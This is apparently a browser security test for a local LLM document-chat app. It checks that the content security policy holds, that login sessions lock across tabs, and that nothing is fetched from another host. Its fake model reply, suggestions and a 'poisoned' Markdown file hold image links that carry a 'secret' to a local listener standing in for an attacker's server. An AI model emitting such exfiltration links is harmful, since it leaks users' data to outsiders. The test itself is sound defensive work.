"""The window's hardening in a real Chromium: the page's CSP holds for every view and the
API's page (Chromium reports no violation), nothing the model or a document wrote is
fetched from elsewhere, and Lock ends the login in every tab.

A local listener on another port stands in for the attacker's server: the answer and a
Markdown document both hold an image pointing at it, with a "secret" in the URL.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.browser.harness import fresh_shots, running_app, skip_without_chromium
from tests.fakes.ollama_server import FakeOllamaServer
from tests.pdfs import make_pdf
from tests.running import eventually

pytestmark = skip_without_chromium

REPORT = [
    "Introduction. This report covers the company's third quarter.",
    "Revenue. Revenue in the third quarter rose to 12 million euros, up 8 percent.",
]
REPORT_CSP = "Content Security Policy"
REPORTED = """
document.addEventListener("securitypolicyviolation", (e) =>
  console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI}`));
"""
"""Run in every document and frame: Chromium's own console line is kept too."""


class Listener:
    """An HTTP server on another local port that records every request it gets."""

    def __init__(self) -> None:
        seen = self.requests = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
                seen.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/gif")
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    served = Listener()
    yield served
    served.close()


@pytest.fixture
def login_link(
    tmp_path: Path, ollama: FakeOllamaServer, listener: Listener
) -> Iterator[tuple[str, Path]]:
    """The app with report.pdf and a poisoned plan.md; its login link and data dir."""
    data = tmp_path / "data"
    make_pdf(data / "documents" / "report.pdf", REPORT)
    (data / "documents" / "plan.md").write_text(
        f"# Plan\n\nThe plan is simple.\n\n![pixel]({listener.url}/pixel?d=from-the-document)\n"
    )

    def reply(body: dict[str, Any]) -> str | None:
        properties = (body.get("format") or {}).get("properties", {})
        if "suggestions" in properties:
            return json.dumps({"suggestions": [f"![s]({listener.url}/?d=suggested)", "More?"]})
        if "route" in properties:
            return json.dumps({"route": "documents"})
        if "query" in properties:
            return json.dumps({"query": "revenue in the third quarter"})
        return f"Revenue rose to 12 million euros [1]. ![x]({listener.url}/?d=secret)"

    ollama.responder = reply
    ollama.token_delay = 0.0
    with running_app(data, ollama, documents=2) as link:
        yield link, data


async def test_nothing_leaves_the_window_and_the_csp_holds(
    login_link: tuple[str, Path], browser: object, listener: Listener
) -> None:
    from playwright.async_api import Browser, Page

    assert isinstance(browser, Browser)
    link, data = login_link
    shots = fresh_shots("security")
    app_url = link.split("/login", 1)[0]
    context = await browser.new_context(viewport={"width": 1400, "height": 900})
    await context.add_init_script(REPORTED)
    page: Page = await context.new_page()
    console: list[str] = []
    context.on("console", lambda message: console.append(message.text))  # every tab
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    response = await page.goto(link)
    assert response is not None
    policy = await response.header_value("content-security-policy") or ""
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
    box = page.locator("textarea")
    await box.wait_for()
    await page.locator(".docent-doclist [data-status='ready']").nth(1).wait_for()
    await page.screenshot(path=shots / "01-empty-chat.png")

    # An answer with an image pointing elsewhere: a link naming the URL, nothing fetched.
    await box.fill('What does @"report.pdf" say about revenue?')
    await box.press("Enter")
    answer = page.locator(".docent-md[data-turn]").last
    await answer.locator(".docent-image-link").wait_for(timeout=60_000)
    await page.locator(".docent-streaming").wait_for(state="detached", timeout=60_000)
    await page.locator(".docent-suggestion").first.wait_for(timeout=30_000)
    image_link = answer.locator("a.docent-image-link")
    assert await image_link.get_attribute("href") == f"{listener.url}/?d=secret"
    assert f"image: x ({listener.url}/?d=secret)" in await image_link.inner_text()
    assert await page.locator(f"img[src^='{listener.url}']").count() == 0
    await page.screenshot(path=shots / "02-answer.png")

    # The dialogs: why these sources (a chart), how Docent works (a diagram), settings.
    await page.locator("button:has-text('Why these sources?')").last.click()
    await page.locator(".q-dialog canvas").first.wait_for()
    await page.screenshot(path=shots / "03-trace.png")
    await page.keyboard.press("Escape")
    await page.locator(".q-dialog").wait_for(state="detached")
    await page.locator("header button:has(i:text-is('help_outline'))").click()
    await page.locator(".q-dialog svg").first.wait_for()
    await page.screenshot(path=shots / "04-help.png")
    await page.keyboard.press("Escape")
    await page.locator(".q-dialog").wait_for(state="detached")
    await page.locator("header button:has(i:text-is('settings'))").click()
    await page.locator(".q-dialog :text('API token and other tools')").click()
    await page.locator(".q-dialog :text('curl')").first.wait_for()
    await page.screenshot(path=shots / "05-settings.png")
    await page.keyboard.press("Escape")
    await page.locator(".q-dialog").wait_for(state="detached")

    # The cited PDF, drawn by PDF.js from Docent's own files (its worker too).
    await answer.locator(".docent-cite").first.click()
    viewer = page.locator(".docent-pdf")
    await viewer.wait_for()
    await eventually(lambda: _has(viewer, "data-shown"), timeout=30, what="the PDF drawn")
    await page.screenshot(path=shots / "06-pdf.png")
    await page.keyboard.press("Escape")
    await viewer.wait_for(state="detached")

    # The poisoned Markdown document, opened from the library.
    row = page.locator(".docent-doclist [data-path='plan.md']")
    await row.locator("button:has(i:text-is('more_vert'))").click()
    await page.locator(".q-menu :text-is('Open')").click()
    pixel = page.locator(".docent-viewer-text a.docent-image-link")
    await pixel.wait_for()
    assert "from-the-document" in (await pixel.get_attribute("title") or "")
    await page.screenshot(path=shots / "07-markdown.png")
    await page.keyboard.press("Escape")

    # The API's page: its Swagger UI comes from Docent itself, not from a CDN.
    docs = await context.new_page()
    await docs.goto(f"{app_url}/docs")
    await docs.locator(".swagger-ui .info .title:has-text('Docent API')").wait_for()
    await docs.locator(".swagger-ui .opblock").first.wait_for()  # the schema loaded too
    await docs.screenshot(path=shots / "07b-api-docs.png")
    await docs.close()

    # Every image URL above reached the page as text only: no request left it, no load
    # was even tried (Chromium reports a blocked load as a violation), no script failed.
    fetched = await page.evaluate(
        "performance.getEntriesByType('resource').map((e) => e.name)"
        f".filter((name) => name.startsWith({json.dumps(listener.url)}))"
    )
    assert fetched == [] and listener.requests == []
    violations = [line for line in console if REPORT_CSP in line or "CSP violation" in line]
    assert violations == [], violations
    assert errors == []

    # Lock in one tab: that tab shows the login page, and so does the other one.
    other = await context.new_page()
    await other.goto(app_url)
    await other.locator("textarea").wait_for()
    cookie = next(c for c in await context.cookies() if c["name"].startswith("docent-"))
    assert "expires" not in cookie or cookie["expires"] == -1  # no Max-Age: not remembered
    await page.locator("header button:has(i:text-is('lock_open'))").click()
    await page.locator(".q-menu :text('Lock (log this browser out)')").click()
    await page.locator("h1:text('Docent needs a login link')").wait_for()
    await other.locator("h1:text('Docent needs a login link')").wait_for(timeout=30_000)
    await other.screenshot(path=shots / "08-locked.png")
    replayed = httpx.get(
        f"{app_url}/api/documents", cookies={cookie["name"]: cookie["value"]}, timeout=10
    )
    assert replayed.status_code == 401
    assert (data / "api-token").exists()  # the token, unlike the login, still works
    token = (data / "api-token").read_text().strip()
    with_token = httpx.get(
        f"{app_url}/api/documents", headers={"Authorization": f"Bearer {token}"}, timeout=10
    )
    assert with_token.status_code == 200


async def _has(locator: Any, name: str) -> bool:
    return bool(await locator.get_attribute(name))
